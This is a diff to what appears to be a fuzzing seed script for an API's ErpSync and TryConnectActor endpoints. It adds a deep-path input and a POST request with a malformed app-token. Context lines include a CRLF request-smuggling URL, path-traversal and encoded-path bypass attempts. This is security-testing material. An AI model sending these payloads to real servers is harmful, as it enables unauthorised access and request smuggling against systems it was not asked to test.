@@ -72,6 +72,7 @@ seed target unicode '' '/api/v1/Agents/%25u0045rpSync/SyncAll'
 seed target cookieless '' '/api/v1/Agents/(S(x))/Erp(A(1)F(2))Sync/SyncAll'
 seed target line '' "/x%20HTTP/1.1%0d%0aGET%20$agent/SyncAll%20\\..\\..\\..\\..\\.."
 seed target soap '' '/Remote\Services88\ErpSync.svc\x/..'
+seed target deep '' "$(printf '/x%.0s' {1..65})/erpsync#/"
 seed target absolute '' "http://h$agent/SyncAll#x"
 
 # tenants
@@ -113,6 +114,11 @@ Content-Type: application/json
 Content-Length: $((${#sample}))
 
 $sample"
+seed request token '\x00\x00' "POST /Cust1$agent/TryConnectActor $host
+Content-Type: application/json
+Content-Length: 15
+
+{\"app-token\":1}"
 seed request chunks '\x40\x13' "POST $agent/TryConnectActor $host
 Transfer-Encoding: chunked
 Content-Type: application/xml; charset=utf-8
